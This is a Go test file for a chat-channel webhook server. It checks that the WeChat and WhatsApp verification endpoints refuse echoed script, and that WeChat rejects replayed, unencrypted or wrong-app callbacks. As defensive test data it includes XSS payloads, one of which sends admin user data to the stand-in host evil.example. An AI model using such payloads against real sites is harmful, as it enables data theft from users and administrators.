package main

import (
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"tandem/channels/wechat"
)

// harness is the conformance suite's harness for a channel.
func harness(t *testing.T, name string) channelHarness {
	for _, h := range channelHarnesses {
		if h.name == name {
			return h
		}
	}
	t.Fatalf("no harness %q", name)
	return channelHarness{}
}

// channelServer starts the demo with one channel enabled against its fake platform.
func channelServer(t *testing.T, name string) (*instance, *fakePlatform) {
	fake, extra, _ := harness(t, name).setup(t)
	env := demoEnv(t, t.TempDir())
	for k, v := range extra {
		env[k] = v
	}
	return start(t, env, "demo"), fake
}

type echoResult struct {
	status      int
	contentType string
	nosniff     string
	body        string
}

func getEcho(t *testing.T, u string) echoResult {
	t.Helper()
	res, err := http.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return echoResult{res.StatusCode, res.Header.Get("Content-Type"), res.Header.Get("X-Content-Type-Options"), string(b)}
}

// TestVerificationEchoes attacks the WeChat URL check and the WhatsApp handshake the way the
// review did: a signed callback URL carrying script must not come back as a page, an old one
// must not work at all, and a genuine check gets its challenge back as nosniff plain text.
func TestVerificationEchoes(t *testing.T) {
	const token, appID = "wxtoken", "wx1234567890abcdef"
	in, _ := channelServer(t, "wechat")
	check := func(ts int64, echostr string) string {
		s, nonce := strconv.FormatInt(ts, 10), "486452656"
		return fmt.Sprintf("%s/webhooks/wechat?signature=%s&timestamp=%s&nonce=%s&echostr=%s", in.base,
			wechat.Signature(token, s, nonce), s, nonce, url.QueryEscape(echostr))
	}
	now := time.Now().Unix()
	if r := getEcho(t, check(now, "7094317183262371431")); r.status != 200 || r.body != "7094317183262371431" ||
		r.contentType != "text/plain; charset=utf-8" || r.nosniff != "nosniff" {
		t.Fatalf("a genuine URL check = %+v, want the echostr as nosniff text/plain", r)
	}
	xss := `<script>fetch("/api/admin/users").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script>`
	if r := getEcho(t, check(now, xss)); r.status == 200 || strings.Contains(r.body, "<script>") || strings.Contains(r.contentType, "html") {
		t.Fatalf("a signed URL check carrying script = %+v, want it refused", r)
	}
	if r := getEcho(t, check(now-int64(time.Hour/time.Second), "123")); r.status != 401 {
		t.Fatalf("a URL check from an hour ago = %+v, want 401 (replay)", r)
	}
	// msg_signature covers echostr, which is encrypted; the plaintext is what goes back.
	c, _ := wechat.NewCipher(strings.Repeat("k", 43), appID)
	enc, ts, nonce := c.Encrypt([]byte("5838479218127813673")), strconv.FormatInt(now, 10), "1597212914"
	u := fmt.Sprintf("%s/webhooks/wechat?msg_signature=%s&timestamp=%s&nonce=%s&echostr=%s", in.base,
		wechat.Signature(token, ts, nonce, enc), ts, nonce, url.QueryEscape(enc))
	if r := getEcho(t, u); r.status != 200 || r.body != "5838479218127813673" || r.nosniff != "nosniff" {
		t.Fatalf("an encrypted URL check = %+v, want the decrypted echostr", r)
	}
	encXSS := c.Encrypt([]byte("<svg onload=alert(1)>"))
	u = fmt.Sprintf("%s/webhooks/wechat?msg_signature=%s&timestamp=%s&nonce=%s&echostr=%s", in.base,
		wechat.Signature(token, ts, nonce, encXSS), ts, nonce, url.QueryEscape(encXSS))
	if r := getEcho(t, u); r.status == 200 || strings.Contains(r.body, "<svg") {
		t.Fatalf("an encrypted URL check hiding markup = %+v, want it refused", r)
	}

	wa, _ := channelServer(t, "whatsapp")
	hs := func(challenge string) echoResult {
		return getEcho(t, wa.base+"/webhooks/whatsapp?hub.mode=subscribe&hub.verify_token=verify-me&hub.challenge="+url.QueryEscape(challenge))
	}
	if r := hs("1158201444"); r.status != 200 || r.body != "1158201444" || r.contentType != "text/plain; charset=utf-8" || r.nosniff != "nosniff" {
		t.Fatalf("a genuine WhatsApp handshake = %+v, want the challenge as nosniff text/plain", r)
	}
	if r := hs("<img src=x onerror=alert(document.domain)>"); r.status == 200 || strings.Contains(r.body, "<img") {
		t.Fatalf("a WhatsApp handshake carrying markup = %+v, want it refused", r)
	}
}

// TestWeChatSignedCallbacks: a signed delivery outside the 5-minute window is refused, a channel
// with an EncodingAESKey refuses plaintext deliveries (no downgrade), and a decryption error says
// nothing about what was decrypted.
func TestWeChatSignedCallbacks(t *testing.T) {
	const token, appID = "wxtoken", "wx1234567890abcdef"
	in, fake := channelServer(t, "wechat")
	plainXML := func(id int, text string) string {
		return fmt.Sprintf(`<xml><ToUserName><![CDATA[gh_acct]]></ToUserName><FromUserName><![CDATA[oUSER42]]></FromUserName>`+
			`<CreateTime>1714037060</CreateTime><MsgType><![CDATA[text]]></MsgType><Content><![CDATA[%s]]></Content><MsgId>%d</MsgId></xml>`, text, id)
	}
	safe := func(c *wechat.Cipher, ts int64, id int, text string) (int, string) {
		enc := c.Encrypt([]byte(plainXML(id, text)))
		s, nonce := strconv.FormatInt(ts, 10), "486452656"
		body := `<xml><ToUserName><![CDATA[gh_acct]]></ToUserName><Encrypt><![CDATA[` + enc + `]]></Encrypt></xml>`
		code, resp := postWebhookBody(t, fmt.Sprintf("%s/webhooks/wechat?signature=%s&timestamp=%s&nonce=%s&openid=oUSER42&encrypt_type=aes&msg_signature=%s",
			in.base, wechat.Signature(token, s, nonce), s, nonce, wechat.Signature(token, s, nonce, enc)), body, map[string]string{"Content-Type": "text/xml"})
		return code, string(resp)
	}
	ours, _ := wechat.NewCipher(strings.Repeat("k", 43), appID)
	if code, body := safe(ours, time.Now().Add(-10*time.Minute).Unix(), 700001, "replayed hello"); code != 401 {
		t.Fatalf("a delivery signed 10 minutes ago = %d %q, want 401", code, body)
	}
	s := strconv.FormatInt(time.Now().Unix(), 10)
	code, _ := postWebhookBody(t, fmt.Sprintf("%s/webhooks/wechat?signature=%s&timestamp=%s&nonce=1&openid=oUSER42", in.base, wechat.Signature(token, s, "1"), s),
		plainXML(700002, "How do I file a claim? (forged, unencrypted)"), map[string]string{"Content-Type": "text/xml"})
	if code != 400 {
		t.Fatalf("a plaintext delivery to a safe-mode channel = %d, want 400", code)
	}
	other, _ := wechat.NewCipher(strings.Repeat("k", 43), "wxSECRETOTHERAPP")
	if code, body := safe(other, time.Now().Unix(), 700003, "hi"); code != 400 || strings.Contains(body, "wxSECRETOTHERAPP") {
		t.Fatalf("a delivery for another app id = %d %q, want 400 without the decrypted id", code, body)
	}
	time.Sleep(300 * time.Millisecond)
	if n := fake.total(); n != 0 {
		t.Fatalf("refused deliveries were answered: %q", fake.sent)
	}
	if code, _ := safe(ours, time.Now().Unix(), 700004, "How do I file a claim?"); code != 200 {
		t.Fatalf("a fresh safe-mode delivery = %d, want 200", code)
	}
}
